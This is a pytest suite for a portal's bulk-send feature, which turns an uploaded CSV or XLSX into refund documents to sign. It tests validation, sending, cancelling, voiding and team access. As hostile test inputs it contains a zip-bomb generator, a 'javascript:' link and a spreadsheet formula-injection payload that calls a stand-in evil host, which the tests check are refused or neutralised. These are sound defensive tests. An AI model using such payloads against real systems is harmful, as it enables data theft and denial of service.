"""Bulk send: the CSV template, files read and checked before anything is sent, sending a batch,
its report, cancelling and voiding."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import time

import openpyxl
import pytest
from sqlalchemy import select

from portal import storage
from portal.bulk.models import BulkRow
from portal.envelopes.models import Envelope, Recipient
from portal.extensions import db
from portal.library import operations as library
from portal.library.models import TemplateVersion
from portal.mail import Message
from tests.bulk_helpers import (  # noqa: F401 - bulk_threads_end is a fixture
    Bulk,
    approved_pdf_template,
    bulk_threads_end,
    counts,
    problems,
    refund_row,
    to_csv,
)
from tests.conftest import audit_events, demo_template
from tests.test_documents import good_pdf


@pytest.fixture
def bulk(app, runner_for, signed_in) -> Bulk:
    """The demo data and an agent of the demo team on the bulk send pages (refund template)."""
    with app.app_context():
        assert runner_for(app).invoke(args=["portal", "seed-demo"]).exit_code == 0
        version_id = library.approved_version(demo_template()).id
    portal, _staff = signed_in("agent", team="Customer Care")
    return Bulk(app, portal, version_id)


def _refunds(bulk: Bulk, rows: list[dict[str, str]], delimiter: str = ",") -> str:
    return to_csv(bulk.headings(), rows, delimiter)


# ---------------------------------------------------------------- the CSV template


def test_csv_template_round_trip(app, bulk):
    text = bulk.template()
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][0].startswith("# Refund authorization v1: one row per customer")
    assert "required: Order number; e.g. ORD-104233" in lines[0]
    headings = lines[1]
    for heading in ("customer.name", "order.number", "refund.method", "Customer: email",
                    "Customer: language", "Customer: authentication", "Customer: access code",
                    "Ticket", "Ticket link"):  # fmt: skip
        assert heading in headings
    filled = text + to_csv(headings, [refund_row(1), refund_row(2)]).split("\r\n", 1)[1]
    public_id = bulk.uploaded(filled)
    page = bulk.page(public_id)
    assert re.search(r'id="rows-ready">2<', page) and re.search(r'id="rows-problems">0<', page)
    assert "Customer 1" in page and "ORD-00002" in page and "Missing columns" not in page
    events = audit_events(app, "bulk.created") + audit_events(app, "bulk.validated")
    assert [e.event for e in events] == ["bulk.created", "bulk.validated"]
    assert events[0].data["rows"] == 2 and events[1].data["ready"] == 2


def test_a_batch_sends_every_ready_row_and_tells_the_agent(app, bulk):
    rows = [refund_row(n) for n in range(1, 6)]
    rows[1]["Ticket"] = "CASE-77"
    rows[1]["Ticket link"] = "https://crm.example.com/cases/77"
    public_id = bulk.uploaded(_refunds(bulk, rows))
    bulk.send(public_id)
    batch = bulk.wait(public_id)
    assert batch.state == "finished" and batch.created_count == 5 and batch.failed_count == 0
    assert counts(app) == (5, 5)
    with app.app_context():
        envelopes = list(db.session.scalars(select(Envelope).order_by(Envelope.id)))
        assert [e.merge_data["order.number"] for e in envelopes] == [
            r["order.number"] for r in rows
        ]
        assert envelopes[1].ticket_id == "CASE-77"
        assert all(e.status == "sent" and e.document_blob_id for e in envelopes)
        # authored: each customer's own merged document, with its own SHA-256
        assert len({e.original_sha256 for e in envelopes}) == 5
        people = list(db.session.scalars(select(Recipient).order_by(Recipient.id)))
        assert [p.email for p in people] == [r["customer.email"] for r in rows]
        assert all(p.token_hash and p.status == "sent" for p in people)
        notice = db.session.scalars(select(Message).where(Message.kind == "notice")).one()
        assert notice.to_address.startswith("agent") and "5 of 5 sent" in notice.subject
        rows_done = list(db.session.scalars(select(BulkRow).order_by(BulkRow.number)))
        assert [r.envelope_id for r in rows_done] == [e.id for e in envelopes]
    for name in ("bulk.started", "bulk.finished"):
        assert len(audit_events(app, name)) == 1
    created = audit_events(app, "envelope.created")
    assert len(created) == 5 and created[0].data["bulk_batch"] == public_id
    assert len(audit_events(app, "envelope.link_sent")) == 5
    assert len(audit_events(app, "envelope.sent")) == 5
    page = bulk.page(public_id)
    assert "Finished:" in page and 'id="count-created">5<' in page
    console = bulk.portal.client.get("/console").get_data(as_text=True)
    assert "Bulk send to many customers" in console
    assert "customers.csv</a> (finished, 5 of 5 sent)" in console


def test_the_signing_email_is_the_one_the_send_form_sends(app, bulk):
    from portal import mail

    public_id = bulk.uploaded(_refunds(bulk, [refund_row(1, **{"customer.name": "Zoë <b>&"})]))
    bulk.send(public_id)
    bulk.wait(public_id)
    with app.app_context():
        message = db.session.scalars(select(Message).where(Message.kind == "signing_request")).one()
        envelope = db.session.scalars(select(Envelope)).one()
        link = re.search(r"http://\S+/s/\S+", message.text_body).group(0)
        subject, text, html = mail.render(
            "signing_request", "en", recipient_name="Zoë <b>&",
            sender_name=envelope.created_by.name,
            title=envelope.title, kind="signer", link=link, expires_at=envelope.expires_at,
            reminder=False, expiring=False,
        )  # fmt: skip
        assert (message.subject, message.text_body, message.html_body) == (subject, text, html)
        assert "Zoë &lt;b&gt;&amp;" in message.html_body


# ---------------------------------------------------------------- files refused


def _zip_bomb() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * 1024 * 1024))
    return buffer.getvalue()


def _junk() -> bytes:
    return bytes((i * 7919 + 13) % 256 for i in range(50_000))


def _many_rows(bulk: Bulk) -> str:
    return _refunds(bulk, [refund_row(n) for n in range(1, 10_002)])


def _broken_utf8(bulk: Bulk) -> bytes:
    good = _refunds(bulk, [refund_row(1), refund_row(2)]).encode()
    return good.replace(b"Customer 2", b"Customer \xff2")


BAD_FILES = [
    ("empty", lambda b: b"", r"The file is empty"),
    ("header only", lambda b: _refunds(b, []), r"has a header \(row 1\) but no customer rows"),
    ("10,001 rows", _many_rows, r"more than 10,000 customer rows \(row 10,002 is row 10,001\)"),
    ("binary junk", lambda b: _junk(), r"not a CSV text file nor an Excel workbook"),
    ("zip bomb", lambda b: _zip_bomb(), r"would expand to 300 MB"),
    ("invalid UTF-8", _broken_utf8, r"Row 3, column A: the file has bytes that are not UTF-8"),
    ("a PDF", lambda b: good_pdf(), r"not a CSV text file nor an Excel workbook"),
]


@pytest.mark.parametrize(("label", "make", "message"), BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_sent(
    app, bulk, label, make, message
):
    data = make(bulk)
    response = bulk.upload(data, name="customers.csv")
    page = response.get_data(as_text=True)
    assert response.status_code == 422, page
    assert re.search(message, page), page[page.find('id="upload-error"') :][:400]
    assert "Nothing was sent" in page
    assert counts(app) == (0, 0)
    refused = audit_events(app, "bulk.upload_refused")
    assert len(refused) == 1 and re.search(message, refused[0].data["reason"])
    assert (
        refused[0].data["sha256"]
        == hashlib.sha256(data if isinstance(data, bytes) else data.encode()).hexdigest()
    )


def test_a_file_over_the_upload_limit_is_refused_before_it_is_read(app, bulk):
    response = bulk.upload(b"a" * (50 * 1024 * 1024))
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "The file is 50 MB; bulk send takes files of up to 10 MB" in page
    assert counts(app) == (0, 0)


def test_a_file_between_the_limits_is_refused_too(app, bulk):
    response = bulk.upload(b"a,b\r\n" * (11 * 1024 * 1024 // 5))
    assert response.status_code == 422
    assert "bulk send takes files of up to 10 MB" in response.get_data(as_text=True)


# ---------------------------------------------------------------- rows with problems


def test_a_row_with_100_columns_is_named_and_not_sent(app, bulk):
    headings = bulk.headings()
    text = _refunds(bulk, [refund_row(1), refund_row(2)])
    lines = text.split("\r\n")
    lines[2] += "," + ",".join(f"x{i}" for i in range(100 - len(headings)))
    public_id = bulk.uploaded("\r\n".join(lines))
    page = bulk.page(public_id)
    found = problems(page)
    assert len(found) == 1 and found[0][0] == "3" and found[0][1] == "P"
    assert "This row has 100 cells but the header has 15 columns" in found[0][2]
    refused = bulk.send(public_id)
    assert "1 rows have problems. Exclude them, or fix the file" in refused
    assert counts(app) == (0, 0)


def test_ten_thousand_identical_emails_are_named_and_nothing_is_sent(app, bulk):
    rows = [refund_row(n, **{"customer.email": "same@example.com"}) for n in range(1, 10_001)]
    public_id = bulk.uploaded(_refunds(bulk, rows))
    page = bulk.page(public_id)
    assert 'id="rows-problems">9,999<' in page and 'id="rows-ready">1<' in page
    first = problems(page)[0]
    assert first == (
        "3",
        "Customer: email",
        "same@example.com is also in row 2; a batch sends one envelope per customer.",
    )
    assert "9,999 rows have problems" in bulk.send(public_id)
    assert counts(app) == (0, 0)


def test_every_row_is_checked_with_the_send_form_rules(app, bulk):
    with app.app_context():  # this template needs at least a code by email
        version = db.session.get(TemplateVersion, bulk.version_id)
        version.settings = {**version.settings, "default_auth": "email_otp"}
        db.session.commit()
    rows = [
        refund_row(1),
        refund_row(2, **{"customer.email": "not-an-email"}),
        refund_row(3, **{"refund.amount": ""}),
        refund_row(4, **{"Customer: authentication": "link"}),
        refund_row(5, **{"Customer: authentication": "access code"}),
        refund_row(6, **{"Customer: language": "klingon"}),
        refund_row(7, **{"Ticket link": "javascript:alert(1)"}),
        refund_row(1),
        refund_row(
            9, **{"Customer: authentication": "access code", "Customer: access code": "7311"}
        ),
    ]
    public_id = bulk.uploaded(_refunds(bulk, rows))
    found = problems(bulk.page(public_id))
    by_row = {int(r): (c, m) for r, c, m in found}
    assert by_row[3][0] == "Customer: email" and "is not valid" in by_row[3][1]
    assert by_row[4] == ("refund.amount", "Fill in Refund amount.")
    assert by_row[5] == (
        "Customer: authentication",
        "This template needs at least email code for the Customer: use email code or access code.",
    )
    assert by_row[6] == (
        "Customer: access code",
        "Give the Customer an access code of at least 4 characters.",
    )
    assert by_row[7] == ("Customer: language", "Use en or es.")
    assert by_row[8] == ("Ticket", "The ticket link must start with https://.")
    assert by_row[9] == ("(whole row)", "This row repeats row 2.")
    assert 2 not in by_row and 10 not in by_row
    bulk.send(public_id, exclude_problems="yes")
    batch = bulk.wait(public_id)
    assert batch.created_count == 2 and counts(app) == (2, 2)
    with app.app_context():
        people = {p.email: p for p in db.session.scalars(select(Recipient))}
        assert people["customer1@example.com"].auth_method == "email_otp"
        coded = people["customer9@example.com"]
        assert coded.auth_method == "access_code" and coded.access_code_hash
        assert "7311" not in coded.access_code_hash
        assert db.session.get(type(batch), batch.id).file_blob_id is None  # file (codes) gone
    assert audit_events(app, "bulk.started")[0].data["left_out"] == 7


def test_rows_can_be_left_out_by_number_and_taken_back(app, bulk):
    public_id = bulk.uploaded(_refunds(bulk, [refund_row(n) for n in range(1, 7)]))
    left = bulk.portal.post(f"/bulk/{public_id}/exclude", {"rows": "3, 5-6", "action": "exclude"})
    assert left.status_code == 302
    page = bulk.page(public_id)
    assert "3 rows left out." in page and 'id="rows-excluded">3<' in page
    bulk.portal.post(f"/bulk/{public_id}/exclude", {"rows": "6", "action": "include"})
    bad = bulk.portal.post(f"/bulk/{public_id}/exclude", {"rows": "seven", "action": "exclude"})
    assert "is not a row number" in bulk.page(public_id)
    assert bad.status_code == 302
    bulk.send(public_id)
    bulk.wait(public_id)
    with app.app_context():
        sent = sorted(e.merge_data["order.number"] for e in db.session.scalars(select(Envelope)))
    assert sent == ["ORD-00001", "ORD-00003", "ORD-00005", "ORD-00006"]
    assert audit_events(app, "bulk.rows_excluded")[0].data["rows"] == [3, 5, 6]


def test_formula_payloads_are_stored_literally_and_neutralised_in_the_report(app, bulk):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    public_id = bulk.uploaded(_refunds(bulk, [refund_row(1, **{"customer.name": payload})]))
    bulk.send(public_id)
    bulk.wait(public_id)
    with app.app_context():
        envelope = db.session.scalars(select(Envelope)).one()
        assert envelope.merge_data["customer.name"] == payload
        assert envelope.recipients[0].name == payload
    report = bulk.portal.client.get(f"/bulk/{public_id}/report.csv")
    assert report.status_code == 200 and report.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(report.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Row", "Outcome", "Envelope status"]
    assert rows[1][3] == "'" + payload and rows[1][1] == "Sent" and rows[1][2] == "sent"
    assert len(audit_events(app, "bulk.report_downloaded")) == 1


# ---------------------------------------------------------------- encodings, columns, XLSX


def test_windows_1252_is_detected_and_said(app, bulk):
    text = _refunds(bulk, [refund_row(1, **{"customer.name": "Jürgen Müller"})], delimiter=";")
    public_id = bulk.uploaded(text.encode("cp1252"))
    page = bulk.page(public_id)
    assert "read as Windows-1252" in page and "Jürgen Müller" in page
    assert 'id="rows-ready">1<' in page


def test_columns_with_other_names_are_named_and_can_be_matched_by_hand(app, bulk):
    headings = ["Client", "E-mail", "Order", "Date", "Amount", "Method", "Why", "Notes"]
    rows = [
        ["Ana", "ana@example.com", "ORD-1", "1 May", "€5", "card", "late", "x"],
        ["Ben", "ben@example.com", "ORD-2", "2 May", "€6", "card", "late", "y"],
    ]
    text = "\r\n".join(";".join(r) for r in [headings, *rows]) + "\r\n"
    public_id = bulk.uploaded(text)
    page = bulk.page(public_id)
    assert "Missing columns: customer.name, customer.email, order.number" in page
    assert "Columns not used: Client, E-mail, Order, Date, Amount, Method, Why, Notes" in page
    assert 'id="rows-ready">0<' in page
    chosen = {
        "col-merge:customer.name": "0", "col-merge:customer.email": "1",
        "col-merge:order.number": "2", "col-merge:order.date": "3",
        "col-merge:refund.amount": "4", "col-merge:refund.method": "5",
        "col-merge:refund.reason": "6",
    }  # fmt: skip
    assert bulk.portal.post(f"/bulk/{public_id}/mapping", chosen).status_code == 302
    page = bulk.page(public_id)
    assert 'id="rows-ready">2<' in page and "Missing columns" not in page
    assert "Columns not used: Notes" in page
    assert len(audit_events(app, "bulk.validated")) == 2


def test_an_xlsx_workbook_is_read(app, bulk):
    book = openpyxl.Workbook()
    sheet = book.active
    headings = bulk.headings()
    sheet.append(headings)
    for n in (1, 2):
        row = refund_row(n, **{"refund.amount": ""})
        values = [row.get(h, "") or None for h in headings]
        values[headings.index("refund.amount")] = 12.5 * n
        sheet.append(values)
    sheet.append([None] * len(headings))  # a blank row Excel leaves behind
    sheet.cell(row=3, column=headings.index("refund.reason") + 1, value="=1+1")
    buffer = io.BytesIO()
    book.save(buffer)
    public_id = bulk.uploaded(buffer.getvalue(), name="customers.xlsx")
    page = bulk.page(public_id)
    assert "XLSX" in page and 'id="rows-ready">2<' in page
    with app.app_context():
        rows = list(db.session.scalars(select(BulkRow).order_by(BulkRow.number)))
        assert [r.merge_data["refund.amount"] for r in rows] == ["12.5", "25"]
        assert rows[1].merge_data["refund.reason"] == "=1+1"  # as written, never calculated


# ---------------------------------------------------------------- uploaded-PDF templates


@pytest.fixture
def pdf_version(app, bulk) -> int:
    """An approved uploaded-PDF template with a choice field filled from a merge key."""
    return approved_pdf_template(app)


def test_envelopes_of_an_uploaded_pdf_share_its_stored_document(app, bulk, pdf_version):
    headings = bulk.headings(pdf_version)
    rows = [
        {"customer.name": "Ana", "Customer: email": "ana@example.com", "plan": "basic"},
        {"customer.name": "Ben", "Customer: email": "ben@example.com", "plan": "gold"},
        {"customer.name": "Cy", "Customer: email": "cy@example.com", "plan": "premium"},
    ]
    public_id = bulk.uploaded(to_csv(headings, rows), version_id=pdf_version)
    found = problems(bulk.page(public_id))
    assert found == [("3", "plan", "Plan must be one of: basic, premium.")]
    bulk.send(public_id, exclude_problems="yes")
    bulk.wait(public_id)
    with app.app_context():
        version = db.session.get(TemplateVersion, pdf_version)
        envelopes = list(db.session.scalars(select(Envelope)))
        assert len(envelopes) == 2
        for envelope in envelopes:
            assert envelope.document_blob_id == version.source_blob_id
            assert envelope.original_sha256 == version.source_sha256
            assert hashlib.sha256(storage.get(envelope.document_blob_id)).hexdigest() == (
                version.source_sha256
            )
            assert envelope.images_status == version.images_status == "ready"
            assert envelope.search_text and "ana" in envelopes[0].search_text


# ---------------------------------------------------------------- cancel and void


def test_cancel_midway_sends_no_more_and_voids_what_was_sent(make_app, runner_for, make_staff):
    app = make_app(BULK_MAIL_PER_MINUTE=60)  # ten emails per ten seconds
    from tests.conftest import Portal

    with app.app_context():
        assert runner_for(app).invoke(args=["portal", "seed-demo"]).exit_code == 0
        version_id = library.approved_version(demo_template()).id
    portal = Portal(app, app.test_client())
    portal.sign_in(make_staff("agent", team="Customer Care"))
    bulk = Bulk(app, portal, version_id)
    public_id = bulk.uploaded(_refunds(bulk, [refund_row(n) for n in range(1, 41)]))
    bulk.send(public_id)
    deadline = time.monotonic() + 60
    while bulk.batch(public_id).created_count < 10:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert "Time left" in bulk.page(public_id)
    cancelled = portal.post(f"/bulk/{public_id}/cancel", {})
    assert cancelled.status_code == 302
    page = bulk.page(public_id)
    assert "Cancelled: 30 rows were not sent." in page
    batch = bulk.wait(public_id)
    assert batch.state == "cancelled" and batch.created_count == 10
    assert batch.cancelled_count == 30 and counts(app) == (10, 10)
    time.sleep(1.5)
    assert counts(app) == (10, 10), "nothing is created after the cancel"
    assert "Give the reason" in _void(portal, bulk, public_id, "")
    _void(portal, bulk, public_id, "Wrong refund amounts; we will send new ones.")
    bulk.wait(public_id)
    with app.app_context():
        statuses = {e.status for e in db.session.scalars(select(Envelope))}
        reasons = {e.void_reason for e in db.session.scalars(select(Envelope))}
    assert statuses == {"voided"} and reasons == {"Wrong refund amounts; we will send new ones."}
    assert len(audit_events(app, "envelope.voided")) == 10
    assert audit_events(app, "bulk.cancelled")[0].data == {
        "not_created": 30, "created": 10, "failed": 0
    }  # fmt: skip
    assert audit_events(app, "bulk.voided")[0].data["envelopes"] == 10
    with app.app_context():
        states = [r.state for r in db.session.scalars(select(BulkRow).order_by(BulkRow.number))]
    assert states == ["created"] * 10 + ["cancelled"] * 30


def _void(portal, bulk: Bulk, public_id: str, reason: str) -> str:
    assert portal.post(f"/bulk/{public_id}/void", {"reason": reason}).status_code == 302
    return bulk.page(public_id)


def test_another_team_cannot_see_a_batch(app, bulk, make_staff):
    from tests.conftest import Portal

    public_id = bulk.uploaded(_refunds(bulk, [refund_row(1)]))
    other = Portal(app, app.test_client())
    other.sign_in(make_staff("agent", team="Billing"))
    assert other.client.get(f"/bulk/{public_id}").status_code == 404
    assert other.client.get(f"/bulk/{public_id}/report.csv").status_code == 404
    assert other.post(f"/bulk/{public_id}/send", {}).status_code == 404


def test_a_chunk_that_cannot_be_written_is_shown_and_ends_the_batch_after_five_tries(
    app, bulk, monkeypatch
):
    from portal import jobs
    from portal.bulk import creating, sending

    def broken(self, rows, codes):
        raise RuntimeError("disk full")

    monkeypatch.setattr(creating.ChunkCreator, "create", broken)
    public_id = bulk.uploaded(_refunds(bulk, [refund_row(1), refund_row(2)]))
    bulk.send(public_id)  # the first try, in the background
    batch_id = bulk.batch(public_id).id
    deadline = time.monotonic() + 30
    while bulk.batch(public_id).failures < 1:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert "A chunk could not be written (try 1): RuntimeError: disk full" in bulk.page(public_id)
    for _ in range(sending.MAX_FAILURES - 1):
        with app.app_context(), pytest.raises(RuntimeError, match="disk full"):
            jobs.execute("portal.bulk.sending:run_batch", batch_id)
    batch = bulk.batch(public_id)
    assert batch.state == "finished" and batch.failed_count == 2 and counts(app) == (0, 0)
    page = bulk.page(public_id)
    assert "Sending stopped: RuntimeError: disk full" in page
    assert "Not sent: the batch stopped after 5 failed tries" in page
    assert audit_events(app, "bulk.finished")[0].data["failed"] == 2
